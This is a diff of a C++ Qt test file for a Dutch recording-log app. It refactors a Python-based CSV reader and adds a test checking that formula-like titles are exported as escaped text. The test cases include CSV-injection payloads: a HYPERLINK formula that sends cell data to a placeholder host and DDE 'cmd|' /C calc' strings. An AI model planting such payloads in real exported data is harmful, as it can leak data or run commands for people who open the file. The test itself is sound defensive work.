@@ -1,4 +1,5 @@
 #include "base/RegionalText.h"
+#include "control/LogExport.h"
 #include "data/uData.h"
 #include "support/SqlHelpers.h"
 #include "ui/DialogTestKit.h"
@@ -53,6 +54,19 @@ protected:
             LogData->LogRecording(P, At, 1, Row.FileName, QString("/opnames/") + Row.FileName);
         LogData->UpdateRecordingMeta(Id, Row.Title, Row.Persons);
         return Id;
+    }
+
+    // The rows of the CSV file at Path as Python's csv module reads them (strictly).
+    static QJsonArray ReadCsv(const QString& Path) {
+        QProcess Python;
+        Python.start("python3", {"-c",
+                                 "import csv, json, sys\n"
+                                 "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
+                                 "    print(json.dumps(list(csv.reader(f, strict=True))))",
+                                 Path});
+        EXPECT_TRUE(Python.waitForFinished(30000));
+        EXPECT_EQ(Python.exitCode(), 0) << Python.readAllStandardError().toStdString();
+        return QJsonDocument::fromJson(Python.readAllStandardOutput()).array();
     }
 
     // Count recordings, one a minute from 2026-02-01 00:00 on, titled "Reeks <n>".
@@ -243,15 +257,7 @@ TEST_F(LogFindTest, ExportWritesEveryMatchingRowAsCsvThatPythonReadsBack) {
     });
     QTest::mouseClick(Child<QPushButton>(Window, "btnExport"), Qt::LeftButton);
 
-    QProcess Python;
-    Python.start("python3", {"-c",
-                             "import csv, json, sys\n"
-                             "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
-                             "    print(json.dumps(list(csv.reader(f, strict=True))))",
-                             Dir.filePath("uitvoer.csv")});
-    ASSERT_TRUE(Python.waitForFinished(30000));
-    ASSERT_EQ(Python.exitCode(), 0) << Python.readAllStandardError().toStdString();
-    const QJsonArray Rows = QJsonDocument::fromJson(Python.readAllStandardOutput()).array();
+    const QJsonArray Rows = ReadCsv(Dir.filePath("uitvoer.csv"));
     ASSERT_EQ(Rows.size(), 1 + 300 + 1);
     EXPECT_EQ(Rows[0].toVariant().toStringList(),
               (QStringList{"id", "Datum/tijd", "Uur", "Nr", "Formaat", "Preset", "Titel",
@@ -264,6 +270,44 @@ TEST_F(LogFindTest, ExportWritesEveryMatchingRowAsCsvThatPythonReadsBack) {
     EXPECT_EQ(Rows[2].toArray()[6].toString(), "Reeks 300");
     EXPECT_EQ(Rows[301].toArray()[1].toString(), "2026-02-01T00:00:00");
     EXPECT_EQ(Rows[301].toArray()[6].toString(), "Reeks 1");
+}
+
+// A title or a name that a spreadsheet program would take for a formula (and run) is written
+// with a single quote in front, inside the quotes, so that it opens as the text it is.
+TEST_F(LogFindTest, ExportWritesFormulaLikeFieldsAsText) {
+    const struct {
+        QString Stored;
+        QString Exported;
+    } Cases[] = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+         "'=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")"},
+        {"+31 20 555 0100", "'+31 20 555 0100"},
+        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+        {"\t=1+1", "'\t=1+1"},
+        {"\r=1+1", "'\r=1+1"},
+        {"Nieuws = 1+1", "Nieuws = 1+1"},
+        {"'Aanhalingsteken'", "'Aanhalingsteken'"},
+        {"", ""},
+    };
+    int Minute = 0;
+    for (const auto& C : Cases)
+        Log({qPrintable(QString("2026-03-01 14:%1:00").arg(Minute++, 2, 10, QChar('0'))), C.Stored,
+             C.Stored});
+    const QString Path = Dir.filePath("uitvoer.csv");
+    ExportLogCsv(*LogData, TLogFilter(), Path);
+
+    const QJsonArray Rows = ReadCsv(Path);
+    ASSERT_EQ(Rows.size(), 1 + int(std::size(Cases)));
+    // Newest first: the last case on the first line.
+    for (int I = 0; I < int(std::size(Cases)); ++I) {
+        const QJsonArray Row = Rows[int(std::size(Cases)) - I].toArray();
+        EXPECT_EQ(Row[6].toString(), Cases[I].Exported) << "Titel " << I;
+        EXPECT_EQ(Row[7].toString(), Cases[I].Exported) << "Personen " << I;
+    }
+    QFile Raw(Path);
+    ASSERT_TRUE(Raw.open(QIODevice::ReadOnly));
+    EXPECT_TRUE(Raw.readAll().contains(",\"'+31 20 555 0100\",\"'+31 20 555 0100\","));
 }
 
 TEST_F(LogFindTest, AnExportThatCannotBeWrittenSaysWhyInDutch) {
